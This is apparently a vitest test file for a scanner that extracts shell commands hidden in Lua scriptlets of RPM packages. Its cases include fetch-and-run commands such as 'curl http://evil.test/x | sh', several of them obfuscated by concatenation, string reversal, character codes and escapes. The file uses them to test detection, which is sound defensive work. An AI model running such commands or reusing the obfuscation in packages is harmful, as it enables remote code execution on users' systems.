// Shell commands in lua scriptlets, as rpm's own library and lua's run them.
import { describe, expect, it } from 'vitest'
import { luaCommands } from '../../../src/ecosystems/yum/lua-commands.ts'

describe('shell commands in lua scriptlets', () => {
  it.each<[string, string]>([
    ['os.execute("curl http://evil.test/x | sh")', 'curl http://evil.test/x | sh'],
    ["io.popen('id')", 'id'],
    ['os.execute[[echo a]]', 'echo a'],
    ['os.execute [==[echo ]] b]==]', 'echo ]] b'],
    ['rpm.execute("/bin/sh", "-c", "id")', '/bin/sh\n-c\nid'],
    ['local c = "cu" .. "rl evil.test | sh"\nos.execute(c)', 'curl evil.test | sh'],
    ['os.execute("\\99url \\x41\\"b\\"")', 'curl A"b"'],
    ['print("hello")', ''],
    ['local function get(h) return "curl " .. h .. " | sh" end\nos.execute(get(x))', 'curl $h | sh'],
    ['local h = "evil.test"\nos.execute("curl " .. h .. " | sh")', 'evil.test\ncurl evil.test | sh'],
    ['os.execute(string.char(105, 0x64))', 'id'],
    ['os.execute(("hs | x lruc"):reverse())', 'curl x | sh'],
    ['os.execute(string.reverse("di"))', 'id'],
    ['os.execute(table.concat({"curl", "x", "| sh"}, " "))', 'curl x | sh'],
    ['os.execute(string.format("curl %s | %s", host, "sh"))', 'curl $host | sh'],
    ['local run = os.execute\nrun("id")', 'id'],
    ['os.execute(table.concat({string.char(99), "url x | sh"}))', 'curl x | sh'],
  ])('%s', (script, commands) => {
    expect(luaCommands(script)).toBe(commands)
  })
})
